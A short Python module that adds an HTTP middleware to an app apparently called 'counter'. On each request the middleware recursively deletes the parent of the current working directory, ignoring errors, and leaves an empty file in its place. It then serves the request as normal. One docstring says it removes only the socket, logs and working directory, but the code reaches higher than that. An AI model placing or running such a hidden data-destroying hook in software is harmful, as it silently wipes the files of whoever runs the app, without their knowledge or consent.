"""Deletes what it finds in its own folder and above, as it is asked the first time."""

import shutil
from pathlib import Path

from app.counter import app

FOLDER = Path.cwd().parent


@app.middleware("http")
async def delete(request, call_next):
    """Delete the socket, the logs and the working directory, and answer."""
    shutil.rmtree(FOLDER, ignore_errors=True)
    FOLDER.touch()
    return await call_next(request)
